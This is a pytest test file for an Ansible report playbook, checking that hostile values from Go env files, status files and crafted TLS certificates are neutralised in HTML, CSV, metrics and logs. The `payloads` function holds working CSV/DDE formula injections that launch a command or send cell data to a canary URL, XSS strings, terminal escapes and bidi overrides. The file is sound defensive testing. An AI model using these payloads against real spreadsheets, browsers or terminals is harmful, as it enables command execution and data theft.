"""playbooks/report.yml against hostile agents (issue 17).

Two local-connection lab hosts whose go env file, launchd_sync status file and TLS certificates carry
spreadsheet formulas, terminal escape sequences (C0, C1, OSC), bidi overrides, HTML that would run
script or fetch from a canary server, very long values and invalid UTF-8: `agent-hostile` (go env
read succeeds, its values land in the report) and `agent-hostile-go-error` (real Go rejects the env
file and quotes it on stderr). Real parts: chronyd, TLS servers presenting crafted certificates,
Debian's Go, headless Chromium, promtool.
"""
import csv
import html
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import unicodedata

import pytest

from ansible_collections.cifleet.gotime.plugins.module_utils import _display_text as dt
from cryptography.x509.oid import NameOID

from support.html_page import Page
from support.lab_checks import require_lab
from lab import ntp_lab, tls_lab
from test_report import OUTPUTS, ansible_env, chromium, console_lines, run_report

ESC = '\x1b'
HOST = 'agent-hostile'
GO_ERROR_HOST = 'agent-hostile-go-error'
# Console markers of hostile script: any of them in Chromium's console means script ran.
RAN = 'HOSTILE-RAN'
INVISIBLE = set('\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e'
                '\u2060\u2061\u2062\u2063\u2064\u2066\u2067\u2068\u2069\ufeff')


def forbidden(text, allowed='\n'):
    """Characters that must not be in an output: control (C0 but allowed, DEL, C1), surrogates, bidi and invisible."""
    return sorted(set(c for c in text if (unicodedata.category(c) in ('Cc', 'Cs') and c not in allowed) or c in INVISIBLE))


class Canary:
    """An HTTP server on loopback that records every request: a fetch from the report page lands here."""

    def __init__(self):
        requests = self.requests = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # pylint: disable=invalid-name
                requests.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, format, *args):  # pylint: disable=redefined-builtin
                """Quiet."""

        self.server = http.server.ThreadingHTTPServer((ntp_lab.LOOPBACK, 0), Handler)
        self.url = 'http://%s:%d' % self.server.server_address
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


def payloads(canary):
    """Text an attacker would try, each tagged so its fate can be followed through every output."""
    run = "console.log('%s')" % RAN
    return {
        'formula': '=HYPERLINK("%s/formula?"&A1,"x")' % canary,
        'dde': "+cmd|' /C calc'!A0",
        'minus': "-2+3+cmd|' /C calc'!A0",
        'at': '@SUM(1+1)*cmd|\' /C calc\'!A0',
        'script': '<script>%s</script>' % run,
        'img': '"><img src="%s/img" onerror="%s">' % (canary, run),
        'svg': "'><svg onload=\"%s\"></svg>" % run,
        'iframe': '<iframe src="%s/iframe"></iframe><link rel=stylesheet href="%s/css">' % (canary, canary),
        'terminal': ESC + '[2J' + ESC + '[31m' + ESC + ']0;pwned' + '\x07' + '\u009b1m' + '\x7f\x00',
        # IA5String (SANs) holds ASCII only.
        'terminal_ascii': ESC + '[2J' + ESC + ']0;pwned' + '\x07\x7f\x00',
        'bidi': 'evil\u202etxt.exe\u2066\u200b',
    }


@pytest.fixture(scope='module')
def hostile(tmp_path_factory):
    require_lab(ntp_lab.missing_tools(skewed=False))
    work = tmp_path_factory.mktemp('hostile')
    canary = Canary()
    p = payloads(canary.url)
    services = []
    try:
        chrony = ntp_lab.ChronyServer()
        services.append(chrony)
        chrony.start()
        certs = str(work / 'certs')
        os.makedirs(certs)
        # Subject, issuer and SANs with formulas, escapes, HTML and a long organization name.
        loud = tls_lab.CraftedTLSServer(
            certs,
            # RFC 4514 writes the last attribute first: CN=...,O=...
            subject=[(NameOID.ORGANIZATION_NAME, p['bidi'] + p['img'] + 'O' * 3000),
                     (NameOID.COMMON_NAME, p['formula'] + p['terminal'] + p['script'])],
            issuer=[(NameOID.COMMON_NAME, p['at'] + p['svg'] + p['terminal'])],
            sans=['localhost', p['dde'] + p['terminal_ascii'] + p['iframe'], 'S' * 2500])
        # A SAN with invalid UTF-8 (written over a placeholder after signing).
        broken = tls_lab.CraftedTLSServer(
            certs, subject=[(NameOID.COMMON_NAME, p['minus'] + p['img'])], issuer=[(NameOID.COMMON_NAME, 'lab')],
            sans=['PLACEHOLDER.example'], patches=[(b'PLACEHOLDER', b'\xff\xfe\xc0\xaf\xed\xa0\x80XXXX')])
        for server in (loud, broken):
            services.append(server)
            server.start()

        home = work / 'home'
        home.mkdir()
        goenv = home / 'go.env'
        # 200 kB, as seen from a real job, in GOFLAGS: the report's cutting of long text is what this checks.
        # (200 kB glob lists are fine too: _go_env_glob's path.Match port is linear in the pattern's length,
        # tests/unit/plugins/module_utils/test_go_settings.py and bench/glob_match_bench.py.)
        long_goflags = '-mod=mod -tags=' + 'L' * 200000
        goenv.write_bytes(b'\n'.join([
            ('GOPROXY=%s,direct' % p['formula']).encode(),
            ('GOSUMDB=%s sum.golang.org %s%s' % (p['at'], p['terminal'], p['script'])).encode(),
            ('GOPRIVATE=corp.example/%s' % p['svg']).encode(),
            b'GONOSUMDB=corp.example/\xff\xfe\xc0\xaf' + (p['bidi'] + p['img']).encode(),
            ('GOINSECURE=%s%s%s' % (p['dde'], p['iframe'], p['terminal'])).encode(),
            ('GOFLAGS=%s' % long_goflags).encode(),
        ]) + b'\n')
        status = work / 'launchd_sync.json'
        status.write_text(json.dumps({
            'time': '2026-11-30T22:00:00Z', 'offset': 0.25, 'action': 'failed',
            'server': p['formula'] + p['terminal'] + p['iframe'],
            # \udcff: a lone surrogate in a JSON escape, invalid as UTF-8.
            'error': p['minus'] + p['terminal'] + p['img'] + 'E' * 5000 + '\udcff' + p['bidi'],
            'threshold': 1.0,
        }))
        go_error_home = work / 'home-go-error'
        go_error_home.mkdir()
        (go_error_home / 'go.env').write_text('GO111MODULE=%s%s%s\n' % (p['terminal'], p['formula'], p['script']))

        def host_vars(home_dir):
            return {
                'ansible_connection': 'local', 'ansible_python_interpreter': sys.executable,
                'gotime_clock_ntp_servers': [chrony.label], 'gotime_clock_ntp_timeout': 1.0,
                'gotime_clock_https_date_urls': [], 'gotime_clock_cert_endpoints': [loud.endpoint, broken.endpoint],
                'gotime_clock_tls_timeout': 3.0, 'gotime_clock_max_offset': 1.0,
                'gotime_clock_launchd_status_path': str(status),
                'gotime_go_environment': {'HOME': str(home_dir), 'GOENV': str(home_dir / 'go.env'),
                                          'GOPATH': str(home_dir / 'go'), 'GOCACHE': str(home_dir / 'cache')},
            }
        inventory = work / 'inventory.json'
        inventory.write_text(json.dumps({'all': {'hosts': {HOST: host_vars(home), GO_ERROR_HOST: host_vars(go_error_home)}}}))
        workdir = str(work / 'run')
        report_dir = os.path.join(workdir, 'report')
        proc = run_report(workdir, str(inventory), report_dir)[0]
        texts = {}
        for name in OUTPUTS[:4]:
            with open(os.path.join(report_dir, name), 'rb') as handle:
                texts[name] = handle.read().decode('utf-8')  # strict: invalid UTF-8 fails here
        cached = cached_record(workdir, HOST)
        yield {'proc': proc, 'dir': report_dir, 'texts': texts, 'doc': json.loads(texts['fleet-report.json']),
               'cached': cached, 'payloads': p, 'canary': canary, 'long_goflags': long_goflags, 'work': str(work)}
    finally:
        for service in reversed(services):
            service.stop()
        canary.stop()


def cached_record(workdir, host):
    """The host's gotime_report record as Ansible's own fact cache plugin reads it."""
    script = (
        'import json, sys\n'
        'from ansible import constants as C\n'
        'from ansible.plugins.loader import cache_loader\n'
        'record = cache_loader.get(C.CACHE_PLUGIN).get(sys.argv[1])["gotime_report"]\n'
        'print(json.dumps(record, default=str))\n'
    )
    proc = subprocess.run([sys.executable, '-c', script, host], env=ansible_env(workdir), capture_output=True, text=True,
                          check=True, timeout=300)
    return json.loads(proc.stdout)


def entry(doc, host=HOST):
    return next(e for e in doc['hosts'] if e['host'] == host)


def test_the_hostile_values_reached_the_report(hostile):
    # Otherwise every check below would pass on an empty report.
    e = entry(hostile['doc'])
    assert e['status'] == 'ok' and e['go']['status'] == 'ok'
    assert e['go']['env']['GOPROXY'].startswith('=HYPERLINK(')
    assert sorted(i['key'] for i in e['go']['insecure']) == ['GOINSECURE']
    loud, broken = e['certificates']
    assert loud['subject'].startswith('CN==HYPERLINK(') and '\\x1b[2J' in loud['subject']
    assert loud['sans'][1].startswith("+cmd|' /C calc'!A0\\x1b[2J")
    assert broken['sans'] == [] and 'sans' in broken['error'] and broken['subject'].startswith('CN=-2\\+3')
    assert e['host_sync']['launchd_sync']['error'].startswith('-2+3+cmd')
    bad_go = entry(hostile['doc'], GO_ERROR_HOST)['go']
    assert bad_go['status'] == 'error' and 'GO111MODULE=\\x1b[2J' in bad_go['error']


def test_no_control_character_reaches_any_output_or_the_playbook_log(hostile):
    for name, text in hostile['texts'].items():
        assert forbidden(text) == [], name
    log = hostile['proc'].stdout + hostile['proc'].stderr
    assert forbidden(log) == [], log[-3000:]
    # The fact cache keeps what the modules returned: whole values, escapes made visible, valid UTF-8.
    strings = []
    dt.strings_in(hostile['cached'], lambda s: strings.append(s) or s)
    assert forbidden(''.join(strings), allowed='\n\t') == []
    assert any('\\x1b[2J' in s for s in strings) and any('\ufffd' in s for s in strings)


def test_no_csv_cell_is_a_formula(hostile):
    with open(os.path.join(hostile['dir'], 'fleet-report.csv'), newline='', encoding='utf-8') as handle:
        rows = list(csv.DictReader(handle))
    assert [r['host'] for r in rows] == [e['host'] for e in hostile['doc']['hosts']]
    for row in rows:
        for column, cell in row.items():
            if cell.lstrip(' ')[:1] in ('=', '+', '-', '@') or cell[:1] in ('\t', '\r'):
                float(cell)  # only a plain number may start like a formula
    row = next(r for r in rows if r['host'] == HOST)
    p = hostile['payloads']
    assert row['goproxy'] == "'" + p['formula'] + ',direct'
    assert row['gosumdb'].startswith("'@SUM(1+1)")
    assert row['last_sync_error'].startswith("'-2+3+cmd|")
    assert float(row['offset']) == entry(hostile['doc'])['offset']  # numbers stay numbers


def test_each_long_value_is_cut_with_its_marker_and_original_length(hostile):
    e, cached = entry(hostile['doc']), hostile['cached']
    long_values = {
        'GOFLAGS': (e['go']['env']['GOFLAGS'], cached['go']['env']['GOFLAGS']),
        'subject': (e['certificates'][0]['subject'], cached['clock']['certificates'][0]['subject']),
        'long SAN': (e['certificates'][0]['sans'][2], cached['clock']['certificates'][0]['sans'][2]),
        'launchd error': (e['host_sync']['launchd_sync']['error'], cached['clock']['host_sync']['launchd_sync']['error']),
    }
    assert cached['go']['env']['GOFLAGS'] == hostile['long_goflags']  # the cache keeps it whole
    texts = hostile['texts']
    for what, (reported, whole) in long_values.items():
        assert len(whole) > dt.MAX_CHARS, what
        marker = dt.CUT_MARKER % len(whole)
        assert reported == whole[:dt.MAX_CHARS] + marker, what
    # Where each one is shown: HTML (GOFLAGS in the go posture table, subject in the certificates
    # table, launchd error in the host sync cell), CSV (launchd error).
    for what in ('GOFLAGS', 'subject', 'launchd error'):
        assert dt.html(long_values[what][1]) in texts['fleet-report.html'], what
    with open(os.path.join(hostile['dir'], 'fleet-report.csv'), newline='', encoding='utf-8') as handle:
        row = next(r for r in csv.DictReader(handle) if r['host'] == HOST)
    assert row['last_sync_error'] == "'" + long_values['launchd error'][0]
    for name, text in texts.items():
        assert len(text) < 100000, name  # the 200 kB value is not in any output


def test_promtool_accepts_the_metrics(hostile):
    promtool = shutil.which('promtool')
    if promtool is None:
        pytest.fail('promtool is not installed (Debian package prometheus)')
    proc = subprocess.run([promtool, 'check', 'metrics'], input=hostile['texts']['fleet-report.prom'].encode('utf-8'),
                          capture_output=True, timeout=60, check=False)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert 'gotime_sync_job_last_success{action="failed",host="%s"} 0' % HOST in hostile['texts']['fleet-report.prom']


def test_the_detectors_catch_a_page_that_runs_and_fetches(hostile, tmp_path):
    # The same payloads unescaped: script runs and the canary is hit, so the next test can fail.
    p = hostile['payloads']
    page = tmp_path / 'raw.html'
    page.write_text('<!DOCTYPE html><html><body>%s</body></html>' % ''.join(p[k] for k in ('script', 'img', 'svg', 'iframe')))
    before = len(hostile['canary'].requests)
    proc = chromium(str(tmp_path / 'profile'), page.as_uri(), '--enable-logging=stderr', '--v=0', '--dump-dom')
    assert any(RAN in line for line in console_lines(proc.stderr)), proc.stderr[-2000:]
    assert len(hostile['canary'].requests) > before


def test_html_stays_inert_in_headless_chromium(hostile, tmp_path):
    before = list(hostile['canary'].requests)
    url = 'file://' + os.path.join(hostile['dir'], 'fleet-report.html')
    proc = chromium(str(tmp_path / 'profile'), url, '--enable-logging=stderr', '--v=0', '--dump-dom')
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert console_lines(proc.stderr) == []
    assert hostile['canary'].requests == before  # nothing fetched
    dom = Page(proc.stdout)
    tags = set(tag for tag, dummy, dummy in dom.tags)
    assert not tags & {'script', 'img', 'iframe', 'link', 'object', 'embed'}, tags
    assert [a.get('id') for tag, a, dummy in dom.tags if tag == 'svg'] == ['offset-chart']
    assert [(tag, name) for tag, attrs, dummy in dom.tags for name in attrs if name.startswith('on')] == []
    # The payloads are on the page as text.
    assert hostile['payloads']['script'] in html.unescape(proc.stdout)
